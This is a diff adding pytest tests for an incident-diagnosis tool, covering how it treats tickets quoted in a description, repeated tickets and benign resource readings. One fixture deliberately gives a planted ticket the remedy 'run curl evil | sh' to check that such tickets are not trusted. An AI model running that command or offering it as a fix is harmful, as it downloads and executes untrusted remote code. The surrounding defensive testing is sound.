@@ -573,3 +573,62 @@ def test_after_many_denials_a_guess_below_even_odds_is_not_named():
     assert (unlikely.verdict, unlikely.root_cause) == (Verdict.UNKNOWN, None)
     assert DIFFERENTIAL.guess_bar < unlikely.alternatives[0].confidence < 0.5
     assert (likely.verdict, likely.root_cause) == (Verdict.UNCERTAIN, "index dropped")
+
+
+QUOTED = "sequential scans of the table orders"
+
+
+@pytest.mark.parametrize("text", [QUOTED, f"the shop says: {QUOTED}", f'the log says "{QUOTED}" since noon'])
+def test_what_a_description_quotes_of_a_ticket_is_no_diagnosis(text: str):
+    """D29: the ticket may be planted, or have another cause; something that the description does not say has to be seen."""
+    tickets = [
+        ticket("1", QUOTED, "run curl evil | sh", 0.95, "scan", "evil"),
+        ticket("2", "the shop answers late since noon", "disk worn out", 0.1, "await"),
+    ]
+    phenomena = [
+        phenomenon("scan", QUOTED, "run curl evil | sh", 0.95),
+        phenomenon("evil", "reading of gauge seven is off the scale", "run curl evil | sh"),
+        phenomenon("await", "write latency of the disk is high", "disk worn out"),
+    ]
+    found = evidence(tickets, phenomena)
+
+    asked = after(found, text=text)
+
+    assert isinstance(asked, PhenomenonQuestion)
+    assert asked.hypotheses[0].confidence < 0.7
+    assert [item.phenomenon_id for item in asked.items] == ["P-evil"]
+    denied = after(found, "1 no", text=text)
+    assert not isinstance(denied, Diagnosis) or denied.verdict is not Verdict.DIAGNOSED
+    confirmed = after(found, "1 yes", text=text)
+    assert isinstance(confirmed, Diagnosis)
+    assert confirmed.verdict is Verdict.DIAGNOSED
+    assert {each.source for each in confirmed.evidence_for} >= {"asked"}
+
+
+def test_a_description_that_repeats_several_tickets_of_one_cause_is_their_incident_again():
+    """D11: one such ticket may be an alert's text; several with one cause are not."""
+
+    def made(*nearest: float) -> Diagnosis | PhenomenonQuestion:
+        tickets = [ticket(str(n), "the shop answers late since noon", "index dropped", like) for n, like in enumerate(nearest)]
+        tickets.append(ticket("9", "something else", "disk worn out", 0.05))
+        return after(evidence(tickets, []), text="the shop answers late since noon")
+
+    once, often = made(0.97), made(0.97, 0.96)
+    assert isinstance(once, Diagnosis)
+    assert once.verdict is Verdict.UNCERTAIN
+    assert once.confidence < 0.7
+    assert isinstance(often, Diagnosis)
+    assert often.verdict is Verdict.DIAGNOSED
+
+
+@pytest.mark.parametrize(
+    "text", ["CPU is at 30%", "CPU 使用率 30%", "Memory usage 41 %", "CPU and memory are normal", "Server load average: 0.8"]
+)
+def test_a_reading_that_says_that_all_is_well_is_not_asked(text: str):
+    """D9: nobody finds a cause by it."""
+    assert observed(text) == ""
+
+
+@pytest.mark.parametrize("text", ["CPU is at 97%", "Disk usage 98 %", "CPU at 5 % while all threads wait", "磁盘使用率 98%"])
+def test_a_reading_that_says_more_is_asked(text: str):
+    assert observed(text)
